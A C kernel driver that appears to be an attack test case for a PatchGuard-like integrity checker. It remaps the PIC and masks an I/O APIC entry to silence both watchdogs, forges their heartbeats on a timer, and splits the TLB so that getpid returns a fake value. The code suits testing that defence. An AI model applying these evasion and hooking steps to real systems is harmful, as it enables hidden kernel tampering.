/* attack_a95_silence (A95): both watchdogs silenced, their heartbeats
 * forged, then A59's TLB split. The PIT watchdog (IRQ 0) and the NMI
 * watchdog (the same PIT edge through the I/O APIC) are each watched by
 * the tick hook through a heartbeat, the tick of their last interrupt,
 * kept in PatchGuard's plain state. With interrupts off this driver
 * initialises the master PIC again with its vectors at 0x28 (IRQ 0 now
 * arrives at the slave's first vector: no watchdog handler runs, and the
 * mask register reads as before), masks the NMI's redirection entry at the
 * I/O APIC (which only the silenced watchdog compared) and, from a
 * periodic timer of its own on every tick, writes the current tick into
 * both heartbeats; on the same tick it sets up A59's split of getpid's
 * text page again, which only the NMI's instruction-fetch probe saw.
 * With `nosplit`, the watchdogs alone. Expected (before the fix): no bug
 * check, `svc` prints pid 4242. */
#include "attack_pg.h"

#define IOAPIC_FRAME 0xFEC00000ull
#define IOAPIC_REDIR_PIN2 0x14
#define MMIO_PAGES 256
#define PIC1_CMD 0x20
#define PIC1_DATA 0x21

static struct ktimer beat;
static struct dpc beat_dpc;
static struct pg_state *pgs;
static uint64_t *pte, orig, split, page, target;
static uint64_t beats;
static bool do_split;

static volatile uint32_t *find_ioapic(void)
{
	for (uint64_t va = KPP_MMIO_AREA_BASE; va < KPP_MMIO_AREA_BASE + MMIO_PAGES * A_PAGE; va += A_PAGE) {
		uint64_t pte = vm_pte(va);
		if ((pte & A_PTE_P) && (pte & A_PTE_ADDR) == IOAPIC_FRAME)
			return (volatile uint32_t *)va;
	}
	return NULL;
}

static void tick(struct dpc *d, void *ctx)
{
	uint64_t pf = a_cli();
	uint64_t now = ticks();
	pgs->wd_beat = now;
	pgs->nmi_beat = now;
	if (do_split) {
		*pte = split;
		a_invlpg(page);
		((uint64_t(*)(void))target)(); /* the instruction TLB takes the copy */
		*pte = orig;
	}
	if (++beats == 100)
		printk("attack_a95: heartbeats forged 100 times\n");
	a_restore(pf);
}

static bool prepare_split(void)
{
	uint64_t *table = a_find_service_table();
	uint8_t *buf = pool_alloc(2 * A_PAGE, 0x74696C53);
	if (!table || !buf)
		return false;
	target = table[KPP_SYS_GET_PID];
	page = target & ~(A_PAGE - 1);
	pte = a_pte_of(page, 0);
	uint8_t *copy = (uint8_t *)(((uint64_t)buf + A_PAGE - 1) & ~(A_PAGE - 1));
	if (!pte || (uint64_t)copy < KPP_DIRECT_MAP_BASE)
		return false;
	memcpy(copy, (const void *)page, A_PAGE);
	static const uint8_t fake[6] = {0xB8, 0x92, 0x10, 0x00, 0x00, 0xC3}; /* mov eax, 4242; ret */
	memcpy(copy + (target - page), fake, sizeof fake);
	orig = *pte;
	split = (orig & ~A_PTE_ADDR) | (((uint64_t)copy - KPP_DIRECT_MAP_BASE) & A_PTE_ADDR);
	return true;
}

status_t driver_entry(struct driver_object *drv)
{
	do_split = strcmp(drv->args, "nosplit") != 0;
	volatile uint32_t *io = find_ioapic();
	if (!io || (do_split && !prepare_split())) {
		printk("attack_a95: I/O APIC not mapped, or getpid's page not found\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	dpc_init(&beat_dpc, tick, NULL);
	timer_init(&beat, &beat_dpc);
	uint64_t pf = a_cli(); /* no pass between the patch and its report */
	pgs = a_find_pg();
	if (!pgs) {
		a_restore(pf);
		printk("attack_a95: PatchGuard's state not found\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	/* The PIT watchdog: IRQ 0 to the slave's first vector, mask kept. */
	uint8_t mask = a_inb(PIC1_DATA);
	a_outb(PIC1_CMD, 0x11);  /* ICW1: edge, cascade, ICW4 */
	a_outb(PIC1_DATA, 0x28); /* ICW2: vectors 0x28-0x2F */
	a_outb(PIC1_DATA, 0x04); /* ICW3: slave at IRQ 2 */
	a_outb(PIC1_DATA, 0x01); /* ICW4: 8086 mode */
	a_outb(PIC1_DATA, mask);
	/* The NMI watchdog: its redirection entry masked. */
	io[0] = IOAPIC_REDIR_PIN2;
	io[4] |= 1u << 16;
	tick(NULL, NULL);
	timer_set(&beat, 10000000ull, 10000000ull);
	printk("attack_a95: both watchdogs silenced, their heartbeats forged on every tick%s\n",
	       do_split ? ", getpid's text page split" : "");
	a_patched("attack_a95");
	a_restore(pf);
	return KPP_STATUS_SUCCESS;
}
